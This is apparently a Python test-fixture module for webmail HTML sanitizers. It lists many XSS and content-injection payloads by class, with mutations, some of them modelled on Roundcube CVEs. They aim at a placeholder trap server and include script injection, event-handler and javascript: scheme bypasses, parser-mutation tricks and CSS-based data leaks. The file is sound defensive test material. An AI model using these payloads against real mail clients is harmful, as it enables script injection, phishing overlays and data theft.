"""Hostile pages by class, as seen in faults of webmail programs, with mutations of each.

`JS` stands for a script that reports itself, `TRAP` for the address of a server that must not be reached. The
classes follow docs/hostile-mail.md; CVE numbers name the fault that a payload is modelled on.
"""

from __future__ import annotations

import base64
import html
from collections.abc import Callable, Iterator
from dataclasses import dataclass

#: Says that it ran, in any way that a page can.
SCRIPT = (
    "try{window.__hit&&__hit('script')}catch(e){};try{top.__ran=1}catch(e){};"
    "try{new Image().src='TRAP/js'}catch(e){};try{alert(1)}catch(e){}"
)
#: The same without signs that would end an attribute or a tag.
CALL = "__hit(1)"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile page: its class, its number in it, and the HTML."""

    kind: str
    number: int
    html: str

    def __str__(self) -> str:
        return f"{self.kind}-{self.number}"


_SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__hit(1)'/>").decode()
_PAGE = base64.b64encode(b"<script>parent.__hit(1)</script>").decode()

CLASSES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>JS</script>",
        "<script src=TRAP/s.js></script>",
        "<script type=module>import 'TRAP/m.js'</script>",
        "<script/x>JS</script/x>",
        "<scr<script>ipt>JS</scr</script>ipt>",
        "<script><!--\nJS\n--></script>",
        '<noscript><p title="</noscript><script>JS</script>">',
        '<script type=speculationrules>{"prefetch":[{"urls":["TRAP/sp"]}]}</script>',
    ),
    "event": (
        "<img src=x onerror=CALL>",
        "<img src=x onerror='JS'>",
        "<body onload=CALL>",
        "<body onpageshow=CALL onfocus=CALL>",
        "<details open ontoggle=CALL><summary>a</summary>b</details>",
        "<input autofocus onfocus=CALL>",
        "<video src=x onerror=CALL></video>",
        "<audio src=x onerror=CALL></audio>",
        "<marquee onstart=CALL>x</marquee>",
        "<div style='animation:x 1s' onanimationstart=CALL>x</div><style>@keyframes x{}</style>",
        "<p style='transition:color 1s' ontransitionend=CALL>x</p>",
        "<a href=# onfocus=CALL autofocus tabindex=1>x</a>",
        "<img/src/onerror=CALL>",
        "<img src=x:x\tonerror\n=\nCALL>",
        "<button autofocus onfocus=CALL popovertarget=x>x</button>",
        "<div popover=auto onbeforetoggle=CALL id=x>x</div>",
        "<div oncontentvisibilityautostatechange=CALL style='display:block;content-visibility:auto'>x</div>",
        "<object data=x onerror=CALL></object>",
        "<svg onload=CALL></svg>",
        "<link rel=stylesheet href=x onerror=CALL>",
        "<style onload=CALL></style>",
        "<iframe onload=CALL></iframe>",
        "<form><button formaction=javascript:CALL autofocus onfocus=CALL>x</button></form>",
    ),
    "scheme": (
        "<a href=javascript:CALL id=x autofocus>x</a>",
        "<a href=' javascript:CALL'>x</a>",
        "<a href='java\tscript:CALL'>x</a>",
        "<a href='java&#10;script:CALL'>x</a>",
        "<a href='&#x6a;avascript:CALL'>x</a>",
        "<a href='javascript&colon;CALL'>x</a>",
        "<a href='\x01javascript:CALL'>x</a>",
        "<a href='vbscript:CALL'>x</a>",
        "<a href='data:text/html,<script>parent.CALL</script>'>x</a>",
        "<img src=javascript:CALL>",
        "<img src='data:image/svg+xml;base64,SVG64'>",
        "<img src='data:text/html;base64,PAGE64'>",
        "<iframe src=javascript:CALL></iframe>",
        "<iframe src='data:text/html;base64,PAGE64'></iframe>",
        "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
        "<embed src='data:text/html;base64,PAGE64'>",
        "<object data='data:text/html;base64,PAGE64'></object>",
        "<object data=javascript:CALL></object>",
        "<frameset><frame src=javascript:CALL></frameset>",
        "<area href=javascript:CALL>",
        "<a href='blob:null/x'>x</a>",
        "<a href='feed:javascript:CALL'>x</a>",
        "<table background=javascript:CALL><tr><td>x</table>",
    ),
    "svg": (
        # CVE-2023-5631 (Roundcube): a data address in a use
        "<svg><use href='data:image/svg+xml;base64,SVG64#x'></use></svg>",
        "<svg><use xlink:href='data:image/svg+xml;base64,SVG64#x'></use></svg>",
        "<svg><use href='TRAP/u.svg#x'></use></svg>",
        # CVE-2024-37383 (Roundcube): SMIL, with a blank in the name of the attribute
        "<svg><animate attributeName='href ' values='javascript:CALL' begin=0s onbegin=CALL /></svg>",
        "<svg><a><animate attributeName=href values=javascript:CALL /><text x=20 y=20>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=CALL onbegin=CALL /></svg>",
        "<svg><a xlink:href=javascript:CALL><rect width=999 height=999 /></a></svg>",
        "<svg><foreignObject><body onload=CALL><img src=x onerror=CALL></foreignObject></svg>",
        "<svg><image href=TRAP/i.png /></svg>",
        "<svg><feImage xlink:href=TRAP/f.png /></svg>",
        "<svg><script>JS</script></svg>",
        "<svg><script href=TRAP/s.js /></svg>",
        "<svg><style>@import url(TRAP/c.css);*{fill:url(TRAP/u)}</style></svg>",
        "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>CALL</handler></svg>",
        "<svg><discard onbegin=CALL /></svg>",
        "<svg><animateMotion onbegin=CALL /><animateTransform onbegin=CALL /></svg>",
        "<svg width=9999 height=9999 style='position:fixed;top:0;left:0;z-index:9999'><rect width=9999 height=9999 /></svg>",
    ),
    "mutation": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=CALL&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>",
        '<svg></p><style><a id="</style><img src=1 onerror=CALL>">',
        "<math><annotation-xml encoding='text/html'><img src=x onerror=CALL></annotation-xml></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:CALL>x</maction></math>",
        "<math href=javascript:CALL>x</math>",
        '<noembed><img title="</noembed><img src=x onerror=CALL>"></noembed>',
        '<noframes><img title="</noframes><img src=x onerror=CALL>"></noframes>',
        '<xmp><img title="</xmp><img src=x onerror=CALL>"></xmp>',
        '<textarea><img title="</textarea><img src=x onerror=CALL>"></textarea>',
        '<title><img title="</title><img src=x onerror=CALL>"></title>',
        "<select><template><img src=x onerror=CALL></template></select>",
        "<template><img src=x onerror=CALL></template>",
        "<table><a href=1><td><a href=javascript:CALL><img src=x onerror=CALL></table>",
        "<b><p><a href=x><table><tr><td></b><img src=x onerror=CALL>",
        "<listing>&lt;img onerror=CALL src=x&gt;</listing>",
        "<plaintext><img src=x onerror=CALL>",
        "<svg><desc><b><style><img src=x onerror=CALL></style></b></desc></svg>",
        "<svg><title><style><img src=x onerror=CALL></style></title></svg>",
        "<div><!--><img src=x onerror=CALL>-->",
        "<p id='`onmouseover=CALL'>x</p><img alt='``onerror=CALL' src=x>",
        "<select><style><img src=x onerror=CALL></style></select>",
        "<math><mi><svg><foreignObject><style><!--</style><img src=x onerror=CALL>--></style>",
        "<a title='\u2028\"><img src=x onerror=CALL>'>x</a>",
    ),
    "style": (
        "<style>@import url(TRAP/i.css);</style>",
        "<style>@import 'TRAP/j.css';</style>",
        "<style>body{background:url(TRAP/b)}p::before{content:url(TRAP/c)}</style><p>x",
        "<style>@font-face{font-family:x;src:url(TRAP/f.woff)}p{font-family:x}</style><p>x",
        "<style>@\\69mport url(TRAP/e.css);</style>",
        "<link rel=stylesheet href=TRAP/l.css>",
        "<p style='background:url(TRAP/p1)'>x",
        "<p style='background-image:u\\72l(TRAP/p2)'>x",
        "<p style='list-style:url(TRAP/p3);display:list-item'>x",
        "<p style='cursor:url(TRAP/p4),auto'>x",
        "<p style='border-image:url(TRAP/p5) 1'>x",
        "<p style='filter:url(TRAP/p6#x)'>x",
        "<p style='mask:url(TRAP/p7);-webkit-mask:url(TRAP/p8)'>x",
        "<p style='content:url(TRAP/p9)'>x",
        "<p style='shape-outside:url(TRAP/p10);float:left'>x",
        "<p style='background:image-set(\"TRAP/p11\" 1x)'>x",
        "<p style='clip-path:url(TRAP/p12#x)'>x",
        "<p style='color:expression(CALL)'>x",
        "<p style='behavior:url(TRAP/p13)'>x",
        "<p style='-moz-binding:url(TRAP/p14)'>x",
        "<p style='color:red;/*}*/background:url(TRAP/p15)'>x",
        "<p style='color:url(TRAP/p16)'>x",
        "<p style='text-align:url(TRAP/p17);font-weight:url(TRAP/p18)'>x",
        "<p style='--x:url(TRAP/p19);background:var(--x)'>x",
        "<style>input[value^=a]{background:url(TRAP/leak)}</style><input value=abc>",
    ),
    "overlay": (
        "<div style='position:fixed;inset:0;background:red;z-index:2147483647'>x</div>",
        "<div style='position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px'>x</div>",
        "<a href='https://piege.example' style='position:fixed;inset:0;display:block'>x</a>",
        "<dialog open style='position:fixed;inset:0;width:100vw;height:100vh'>Mot de passe</dialog>",
        "<div popover=manual style='position:fixed;inset:0;display:block'>x</div>",
        "<table style='position:sticky;top:0;margin:-9999px;padding:99999px'><tr><td>x</table>",
        "<p style='transform:scale(9999);font-size:9999px'>x",
        "<font size=99999 style='margin-top:-5000px'>x</font>",
        "<style>html,body{position:fixed;inset:-100px;z-index:99999}:root{zoom:50}</style>",
        "<img width=999999 height=999999 style='position:fixed;inset:0' src=cid:x>",
        "<div class='dialog note-urgent toast' id=app>x</div>",
        "<h1 id=live role=alert aria-live=assertive>x</h1>",
    ),
    "navigation": (
        "<base href=TRAP/><img src=b.png><a href=x>x</a>",
        "<base target=_top><a href=x>x</a>",
        "<meta http-equiv=refresh content='0;url=TRAP/r'>",
        "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
        "<meta http-equiv=refresh content='0;url=data:text/html;base64,PAGE64'>",
        "<meta http-equiv=set-cookie content='a=b'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>JS</script>",
        "<meta http-equiv=refresh content=0;url=TRAP/r2 http-equiv=x>",
        "<link rel=import href=TRAP/imp>",
        "<link rel=manifest href=TRAP/man>",
        "<link rel=canonical href=TRAP/can>",
        "<iframe src=TRAP/fr></iframe>",
        "<frameset><frame src=TRAP/fs></frameset>",
        "<object data=TRAP/obj></object>",
        "<embed src=TRAP/emb>",
        "<applet code=TRAP/app></applet>",
        "<portal src=TRAP/por></portal>",
        "<fencedframe src=TRAP/fen></fencedframe>",
    ),
    "form": (
        "<form action=TRAP/f><input name=p type=password><button>Valider</button></form>",
        "<form action=TRAP/g method=post><input autofocus></form>",
        "<form id=f action=javascript:CALL></form><button form=f formaction=javascript:CALL>x</button>",
        "<form><input type=image src=TRAP/im.png></form>",
        "<input type=image src=TRAP/im2.png>",
        "<isindex action=TRAP/is type=image src=TRAP/is.png>",
        "<button type=submit formaction=TRAP/fa>x</button>",
        "<form action=TRAP/a target=_top><input type=submit></form><form name=document><input name=cookie>",
        "<img name=body><form name=getElementById><input name=parentNode id=attributes>",
        "<keygen autofocus onfocus=CALL><select autofocus onfocus=CALL><textarea autofocus onfocus=CALL>x",
    ),
    "prefetch": (
        "<link rel=prefetch href=TRAP/pf>",
        "<link rel=preload as=image href=TRAP/pl>",
        "<link rel=preload as=script href=TRAP/pls>",
        "<link rel=modulepreload href=TRAP/mp>",
        "<link rel=prerender href=TRAP/pr>",
        "<link rel=icon href=TRAP/ic>",
        "<link rel='next prefetch' href=TRAP/nx>",
        "<link rel=dns-prefetch href='//dns.invalid'><link rel=preconnect href='//pre.invalid'>",
        "<a ping=TRAP/ping href=https://example.org>x</a>",
        "<a href='//dns2.invalid'>x</a><meta http-equiv=x-dns-prefetch-control content=on>",
    ),
    "media": (
        "<img src=TRAP/a.png>",
        "<img src='//127.0.0.1:PORT/b.png'>",
        "<img srcset='TRAP/c.png 1x, TRAP/d.png 2x'>",
        "<picture><source srcset=TRAP/e.png><img src=TRAP/f.png></picture>",
        "<video poster=TRAP/g.png src=TRAP/h.mp4 autoplay></video>",
        "<audio src=TRAP/i.mp3 autoplay></audio>",
        "<video><source src=TRAP/j.mp4><track default src=TRAP/k.vtt></video>",
        "<body background=TRAP/l.png>",
        "<table background=TRAP/m.png><tr><td background=TRAP/n.png>x</table>",
        "<img lowsrc=TRAP/o.png dynsrc=TRAP/p.avi>",
        "<image src=TRAP/q.png>",
        '<img src="TRAP/r.png" loading=eager fetchpriority=high>',
        "<img src='data:image/png,TRAP/s'>",
        "<img src='cid:TRAP/t.png'>",
        "<bgsound src=TRAP/u.wav>",
        "<img src='\tTRAP/v.png'>",
        "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22TRAP/w%22/></svg>'>",
    ),
    "comment": (
        "<!--[if gte mso 9]><img src=TRAP/mso.png onerror=CALL><![endif]-->",
        "<![CDATA[<img src=x onerror=CALL>]]>",
        "<svg><![CDATA[</svg><img src=x onerror=CALL>]]></svg>",
        '<!--<img src="--><img src=x onerror=CALL>//">',
        "<!-- --!><img src=x onerror=CALL> -->",
        "<!--><script>JS</script>",
        "<?xml version='1.0'?><?xml-stylesheet href='TRAP/x.css'?><img src=x onerror=CALL>",
        "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=CALL>'>]>&x;",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script>",
        "<%<img src=x onerror=CALL>%>",
        "</br/><img src=x onerror=CALL/></p/onload=CALL>",
        "<\x00script>JS</\x00script><img\x00 src=x onerror=CALL>",
    ),
    "text": (
        # CVE-2023-43770 (Roundcube): what a plain text becomes once its addresses are made links
        'https://example.org/"onmouseover=CALL//',
        "&lt;img src=x onerror=CALL&gt;",
        'javascript:CALL http://x"><img src=x onerror=CALL>',
        # CVE-2024-42009 (Roundcube): an attribute of the body moved elsewhere
        "<body title='bgcolor=foo' name='bar style=animation-name:progress-bar-stripes onanimationstart=CALL foo=bar'>x</body>",
        "<p title='\"><img src=x onerror=CALL>'>x</p>",
        "<a href='https://example.org/\"><img src=x onerror=CALL>'>x</a>",
        "<img alt='\"><img src=x onerror=CALL>' src=TRAP/alt.png>",
        "<a href='https://example.org/?a=<script>CALL</script>'><b onclick=CALL>https://banque.example</b></a>",
        "{{constructor.constructor('CALL')()}}${CALL}<%=CALL%>",
        "<font color='red\" onload=CALL'>x</font><font color=url(TRAP/fc)>y</font>",
        "<td align='left\" onload=CALL'>x</td><p dir='rtl\" onclick=CALL'>y</p>",
        "<a href='mailto:x@example.org?body=<script>CALL</script>\" onclick=CALL'>x</a>",
        "<a href='tel:+32\" onclick=CALL'>x</a>",
    ),
}


def _mutations() -> dict[str, Callable[[str], str]]:
    return {
        "capitals": lambda page: page.replace("<s", "<S").replace("on", "oN").replace("script", "ScRiPt"),
        "wrapped": lambda page: "<table><tr><td><font><b>" * 15 + page,
        "broken": lambda page: f"<p title='{page[:12]}\">' <div <a <b>{page}<",
        "in_foreign": lambda page: f"<svg><desc><math><mtext>{page}",
    }


def payloads(trap: str) -> list[Payload]:
    """Every payload with its mutations, aimed at this trap."""
    return [
        Payload(kind, number, _aimed(page, trap))
        for kind, pages in CLASSES.items()
        for number, page in enumerate(_with_mutations(pages))
    ]


def _with_mutations(pages: tuple[str, ...]) -> Iterator[str]:
    mutations = list(_mutations().values())
    yield from pages
    for number, page in enumerate(pages):
        yield mutations[number % len(mutations)](page)
    for depth in (60, 400):
        yield "<div><blockquote>" * depth + pages[0]
    yield html.escape(pages[0]) + pages[0].replace(">", "/>")


def _aimed(page: str, trap: str) -> str:
    page = page.replace("JS", SCRIPT).replace("CALL", CALL).replace("SVG64", _SVG).replace("PAGE64", _PAGE)
    return page.replace("TRAP", trap).replace("PORT", trap.rpartition(":")[2])
